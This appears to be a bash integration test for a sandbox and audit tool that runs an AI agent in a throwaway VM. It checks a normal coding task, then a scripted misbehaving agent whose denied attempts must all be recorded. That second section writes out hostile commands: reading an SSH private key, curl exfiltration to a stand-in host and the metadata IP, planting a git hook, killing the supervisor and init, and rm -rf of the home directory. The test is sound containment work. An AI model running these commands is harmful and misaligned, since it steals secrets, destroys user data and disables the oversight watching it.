#!/usr/bin/env bash
# The whole of it: a machine is forked for a session, in it an agent carries out a task that a model has
# for it, then machine and session are gone, and the host's store answers what was done. Once with a
# task as it should be, once with one that misbehaves.
# shellcheck disable=SC2016 # single quotes: the session's shell expands
export KB_WORLD_MODEL=${0%/*}/../agents KB_WORLD_NAMES='api.anthropic.com'
[ "${KB_WORLD_INSIDE:-}" = yes ] || (. "${0%/*}/lib.sh") || exit 1
. "${0%/*}/../integration/net_world.sh"
enter_world "$@"
. "${0%/*}/lib.sh"
. "${0%/*}/host.sh"
PROJECT=/home/dev/code/app

# ---- What is there before ------------------------------------------------------------------------

canary() { printf 'Canary%s' "$(od -An -N24 -tx1 /dev/urandom | tr -d ' \n')"; }
(umask 077; canary >"$WORK/key"; canary >"$WORK/token")
ANTHROPIC_API_KEY=$(cat "$WORK/key")
export ANTHROPIC_API_KEY

# The service's own account of a repository, which takes a push from whoever has the token.
install -m 644 "$WORK/token" "$KB_WORLD/git/token"
git init -q --bare -b main "$KB_WORLD/git/project.git"
git -C "$KB_WORLD/git/project.git" config http.receivepack true
git init -q -b main seed
cd seed
echo 'Correct the greeting, build, test, and push.' >task.md
printf '#!/bin/sh\necho Helo\n' >greet.in
printf '#!/bin/sh\nset -e\nsed s/Hello/Hello,/ greet.in >greet\nchmod +x greet\necho built\n' >build.sh
printf '#!/bin/sh\ntest "$(./greet)" = Hello, && echo passed\n' >test.sh
printf 'greet\n' >.gitignore
git add . && git -c user.name=a -c user.email=a@b.c commit -qm first
git push -q "$KB_WORLD/git/project.git" main
chmod -R a+rwX "$KB_WORLD/git/project.git"
cd ..

# Does what the model says, and tells it what came of it, until there is nothing left to do.
cat >agent.sh <<'END'
step=0 said=
while command=$(curl -fsS -m 60 -H "x-api-key: $ANTHROPIC_API_KEY" -H "X-Step: $step" \
	--data-binary "$said" "$ANTHROPIC_BASE_URL/v1/next") && [ -n "$command" ]; do
	echo "\$ $command"
	said=$(sh -c "$command" 2>&1)
	echo "$said"
	step=$((step + 1))
done
END
cat >task.policy <<END
policy task version 1 extends claude-code {
    net connect tcp "git.test:443"
    secret GIT_TOKEN from file "$WORK/token" for "git.test:443" as basic "x-access-token" intercept
}
END

tries() { # NAME: a session in a machine of its own
	: >"$KB_WORLD/headers.log"
	kb run --vm box --fresh --name "$1" --agent claude-code --policy task.policy -- sh agent.sh \
		>"$WORK/$1.out" 2>"$WORK/$1.err" </dev/null || fail "$1 failed: $(cat "$WORK/$1.out" "$WORK/$1.err")"
}

asked() { # SESSION EXPRESSION: how many records
	kb audit query "$1" "$2" --json | wc -l
}

recorded() { # SESSION EXPRESSION
	[ "$(asked "$1" "$2")" -gt 0 ] || fail "no record in $1: $2"
}

# ---- A task as it should be ------------------------------------------------------------------------

section "an agent carries out a task in a machine made for it"
VM_LIMIT=180 kb vm start box >/dev/null || fail "no machine"
guest box "mkdir -p $PROJECT && chown -R dev: /home/dev/code"
cat >"$KB_WORLD/model-script" <<'END'
git config --global user.name agent && git config --global user.email a@b.c && git clone -q https://git.test/git/project.git project
cat project/task.md project/greet.in
sed -i s/Helo/Hello/ project/greet.in
cd project && sh build.sh
cd project && sh test.sh
cd project && git commit -qam 'Correct the greeting' && git push -q origin main && echo pushed
END
kb vm cp agent.sh "box:$PROJECT/agent.sh" >/dev/null || fail "no agent"
tries task
contains "built" built "$(cat "$WORK/task.out")"
contains "tested" passed "$(cat "$WORK/task.out")"
contains "pushed" pushed "$(cat "$WORK/task.out")"
same "what arrived" 'echo Hello' "$(git -c safe.directory='*' -C "$KB_WORLD/git/project.git" show main:greet.in | tail -n 1)"

section "machine and session are gone, and nothing knows the keys"
same "machines" box "$(kb vm list --json | json '" ".join(m["name"] for m in d)')"
kb vm delete box >/dev/null
same "machines" '' "$(kb vm list --json | json '" ".join(m["name"] for m in d)')"
grep -qF "$(cat "$WORK/key")" "$KB_WORLD/headers.log" || fail "the service saw no key"
for secret in key token; do
	! grep -qF "$(cat "$WORK/$secret")" "$WORK"/task.* || fail "the $secret came out"
	! grep -rqaF "$(cat "$WORK/$secret")" "$VM_CACHE/kbsup/store" || fail "the $secret is in the store"
done

section "the store alone answers: what was run, changed, reached, denied"
same "intact" 0 "$(kb audit verify task >/dev/null 2>&1; echo $?)"
same "its machine" fresh- "$(kb audit sessions --json | json '[s["machine"][:6] for s in L if s["name"] == "task"][0]')"
recorded task 'event = exec and argv ~ "*build.sh*"'
recorded task 'event = exec and argv ~ "*test.sh*"'
recorded task "event = open and path = \"$PROJECT/project/greet\""
recorded task "path ~ \"$PROJECT/project/greet.in\" and exe ~ \"**/sed\""
same "hosts" "api.anthropic.com git.test" \
	"$(kb audit query task 'event = connect and decision = allowed' --json | json '" ".join(sorted({r["host"] for r in L if "host" in r}))')"
# git looks for a password, and is not given one.
unexpected='decision = denied and not path ~ "**/.netrc"'
same "denied ($(kb audit query task "$unexpected"))" 0 "$(asked task "$unexpected")"
contains "the tree" 'sh agent.sh' "$(kb audit tree task)"
kb audit report task -o "$WORK/task.html"
grep -q 'git.test' "$WORK/task.html" || fail "no report"

# ---- One that misbehaves -------------------------------------------------------------------------

section "one that misbehaves is stopped, and every try is in the record"
VM_LIMIT=180 kb vm start box >/dev/null || fail "no machine"
guest box "mkdir -p $PROJECT/.git/hooks /home/dev/.ssh && echo 'the private key' >/home/dev/.ssh/id_ed25519 &&
	echo precious >/home/dev/precious && chown -R dev: /home/dev/code /home/dev/.ssh /home/dev/precious"
kb vm cp agent.sh "box:$PROJECT/agent.sh" >/dev/null || fail "no agent"
cat >"$KB_WORLD/model-script" <<'END'
cat /home/dev/.ssh/id_ed25519
curl -sS -m 10 --data-binary @agent.sh https://other.test/leak
curl -sS -m 10 --data-binary @agent.sh http://169.254.169.254/leak
echo evil >.git/hooks/post-commit
pkill -9 kbsup-guest; /bin/kill -9 1
find /home/dev -maxdepth 1 -name precious -delete; rm -rf /home/dev
END
before=$(kb status --json | json 'd["pid"]')
kb run --vm box --name bad --agent claude-code --policy task.policy -- sh agent.sh >"$WORK/bad.out" 2>&1 </dev/null ||
	fail "it was not carried through: $(cat "$WORK/bad.out")"
same "what is in the machine" 'precious the private key ' \
	"$(guest box "cat /home/dev/precious /home/dev/.ssh/id_ed25519; ls $PROJECT/.git/hooks" | tr '\n' ' ')"
! grep -q 'the private key' "$WORK/bad.out" || fail "the key was read"
! grep -q /leak "$KB_WORLD/http.log" || fail "it got out"
same "the guest lives" alive "$(kb run --vm box -q -- echo alive)"
same "the supervisor lives" "$before" "$(kb status --json | json 'd["pid"]')"
kb vm delete box >/dev/null
recorded bad 'event = open and path ~ "**/.ssh/id_ed25519" and decision = denied'
recorded bad 'host = "other.test" and decision = denied'
recorded bad 'ip = 169.254.169.254 and decision = denied'
recorded bad 'path ~ "**/.git/hooks/post-commit" and decision = denied'
recorded bad 'event = exec and argv ~ "*pkill*"'
recorded bad 'event = exec and argv ~ "*/bin/kill*"'
recorded bad 'event = signal and signal = SIGKILL'
recorded bad 'event = exec and argv ~ "*-delete*"'
recorded bad 'event = exec and argv ~ "*rm -rf /home/dev*"'

section "nothing is left"
stop_supervisor
nothing_left
